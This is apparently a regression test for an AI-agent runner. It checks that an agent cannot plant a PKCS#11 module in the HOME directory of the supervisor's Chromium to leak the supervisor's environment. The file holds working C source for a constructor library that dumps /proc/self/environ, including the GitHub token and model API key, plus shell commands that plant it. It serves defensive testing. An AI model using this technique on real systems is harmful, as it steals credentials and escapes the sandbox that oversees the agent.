// Attack (fails today; passes once fixed): the supervisor's Chromium (the screenshot tool, in the
// runner container, with the runner's environment) runs with HOME on the agent's volume. Chromium
// opens its NSS database at $HOME/.pki/nssdb on the first certificate it verifies, and NSS loads
// every PKCS#11 module that database's pkcs11.txt lists. The agent plants a pkcs11.txt naming a
// shared library it wrote on the workspace, then asks for a screenshot of an https page on
// loopback (allowed without asking): the library runs inside the supervisor's Chromium, with the
// supervisor's uid and environment, and writes that environment (GITHUB_TOKEN, the model key)
// onto the workspace for the agent.
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startE2E, type E2E } from '../support/e2e.ts';
import { filesContaining } from '../support/files.ts';
import { useScriptedModel } from '../support/scripted-model.ts';

const GITHUB_CANARY = 'ghp_canaryCHROMIUMhome0123456789abcd';
const ANTHROPIC_CANARY = 'sk-ant-canary-CHROMIUM-home-0123456789';
const model = useScriptedModel();
let e2e: E2E;
/** The agent's own https dev server on loopback (here the test's: the agent's would do the same). */
let page: Server;
let pageUrl: string;
let tools: string;

/** A library that, once loaded, appends its process's environment and uid to $HOME/chromium-leak.txt. */
const MODULE_SOURCE = String.raw`
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void leak(void) {
  char path[4096], buf[65536];
  const char *home = getenv("HOME");
  if (!home) return;
  snprintf(path, sizeof path, "%s/chromium-leak.txt", home);
  int out = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
  int env = open("/proc/self/environ", O_RDONLY);
  if (out < 0 || env < 0) return;
  dprintf(out, "uid=%d\n", getuid());
  for (ssize_t n; (n = read(env, buf, sizeof buf)) > 0;) write(out, buf, n);
  close(env);
  close(out);
}
`;

beforeAll(async () => {
  tools = mkdtempSync(join(tmpdir(), 'tether-nss-'));
  chmodSync(tools, 0o755);
  writeFileSync(join(tools, 'leak.c'), MODULE_SOURCE);
  execFileSync('gcc', ['-shared', '-fPIC', '-o', join(tools, 'leak.so'), join(tools, 'leak.c')]);
  chmodSync(join(tools, 'leak.so'), 0o755);
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(tools, 'key.pem'), '-out', join(tools, 'cert.pem'),
    '-days', '1', '-subj', '/CN=127.0.0.1'], { stdio: 'ignore' });
  page = createServer({ key: readFileSync(join(tools, 'key.pem')), cert: readFileSync(join(tools, 'cert.pem')) }, (_req, res) => res.end('<h1>dev server</h1>'));
  await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
  pageUrl = `https://127.0.0.1:${(page.address() as AddressInfo).port}/`;
  e2e = await startE2E({ runnerSecrets: { GITHUB_TOKEN: GITHUB_CANARY, ANTHROPIC_API_KEY: ANTHROPIC_CANARY }, podEnv: model.env() });
}, 90_000);
afterAll(async () => {
  page?.close();
  await e2e?.stop();
});

describe('attack: a PKCS#11 module planted in the agent-writable HOME of the supervisor\'s Chromium', () => {
  it('a screenshot of an https loopback page loads no library of the agent\'s and leaks no canary onto the workspace', { timeout: 180_000 }, async () => {
    // The agent writes the library (it could as well be committed in the repository) and the NSS module list.
    const plant = [
      'mkdir -p "$HOME/.pki/nssdb"',
      `cp ${join(tools, 'leak.so')} "$HOME/.pki/leak.so"`,
      'printf "library=%s\\nname=leak\\n\\n" "$HOME/.pki/leak.so" > "$HOME/.pki/nssdb/pkcs11.txt"',
      'chmod -R a+rX "$HOME/.pki"',
    ].join(' && ');
    const phone = e2e.phone('+14155550123');
    await phone.send(`script:\ntool: Bash ${JSON.stringify({ command: plant })}\n`
      + `tool: mcp__tether__screenshot ${JSON.stringify({ url: pageUrl, caption: 'the dev server' })}\n`
      + 'write: note.txt = a change to review\nsay: planted the module');
    await phone.next(/🔐/);
    await phone.send('allow');
    await phone.next(/Reply \*approve\*/);

    const [session] = await e2e.list();
    const workspace = join(e2e.stateDir, 'volumes', e2e.stack.runnerNamespace, session!.spec.workspace);
    // The plant is in place: a fixed runner must have been offered it and refused it.
    expect(readFileSync(join(workspace, 'home/.pki/nssdb/pkcs11.txt'), 'utf8')).toContain('leak.so');
    const leaked = join(workspace, 'home/chromium-leak.txt');
    const found = filesContaining(workspace, [GITHUB_CANARY, ANTHROPIC_CANARY]);
    expect({ leakFile: existsSync(leaked), canariesIn: found }).toEqual({ leakFile: false, canariesIn: [] });
  });
});
